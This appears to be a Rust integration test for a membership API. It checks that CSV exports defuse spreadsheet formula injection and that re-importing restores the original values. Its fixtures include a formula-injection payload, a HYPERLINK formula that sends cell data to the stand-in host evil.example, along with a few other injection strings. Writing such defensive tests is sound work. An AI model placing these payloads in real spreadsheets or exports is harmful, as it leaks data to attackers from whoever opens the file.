//! Text from users as an attacker would send it (issue #13, item 7): CSV exports neutralise
//! spreadsheet formulas. On both databases.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use actix_web::test::{TestRequest, call_service, read_body};
use common::{json, post};
use serde_json::{Value, json};

fn new_member(branch: i64, card: &str, name: &str, workplace_unit: &str) -> Value {
    json!({
        "card_number": card, "full_name": name, "gender": "female", "date_of_birth": "1985-04-30",
        "branch_id": branch, "status": "official", "admitted_on": "2010-05-19",
        "official_on": "2011-05-19", "category": "civil_servant", "workplace_unit": workplace_unit,
        "phone": "+84 912 345 678",
    })
}

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?d="&A1, "Xem")"#;

db_test!(csv_exports_neutralise_formulas, |app, db| {
    let fx = db.fixture();
    let admin = fx.bearer("admin").unwrap();
    let branch = fx.org("Br1").id;
    let people = [
        ("77000001", HYPERLINK, "Khoa Toán"),
        ("77000002", "Lê Thị Cộng", "+cmd"),
        ("77000003", "Lê Thị A Còng", "@SUM(1)"),
        ("77000004", "Lê Thị Trừ", "-2+3"),
    ];
    for (card, name, unit) in people {
        let res = call_service(
            &app,
            post(
                &admin,
                "/api/v1/members",
                new_member(branch, card, name, unit),
            ),
        )
        .await;
        assert_eq!(res.status(), 201, "{name}");
    }
    let res = call_service(
        &app,
        TestRequest::get()
            .uri("/api/v1/members/export?format=csv&q=77000")
            .insert_header(("authorization", admin.as_str()))
            .to_request(),
    )
    .await;
    assert_eq!(res.status(), 200);
    let text = String::from_utf8(read_body(res).await.to_vec()).unwrap();
    // The formula's quotes are doubled inside a quoted cell that starts with the apostrophe.
    assert!(
        text.contains(r#""'=HYPERLINK(""http://evil.example/?d=""&A1, ""Xem"")""#),
        "{text}"
    );
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    let cells: Vec<&str> = rows.iter().flatten().map(String::as_str).collect();
    for want in [
        format!("'{HYPERLINK}"),
        "'+cmd".into(),
        "'@SUM(1)".into(),
        "'-2+3".into(),
    ] {
        assert!(cells.contains(&want.as_str()), "{want} in {cells:?}");
    }
    let live: Vec<&&str> = cells
        .iter()
        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']))
        .collect();
    assert!(
        live.is_empty(),
        "cells a spreadsheet would evaluate: {live:?}"
    );
    assert!(cells.contains(&"'+84 912 345 678"));

    // The export imports back unchanged: the import takes the apostrophe off again.
    let res = call_service(
        &app,
        TestRequest::post()
            .uri("/api/v1/members/import?dry_run=true")
            .insert_header(("authorization", admin.as_str()))
            .insert_header(("content-type", "text/csv"))
            .set_payload(text)
            .to_request(),
    )
    .await;
    let report = json(res).await;
    assert_eq!(report["unchanged"], 4, "{report}");
});
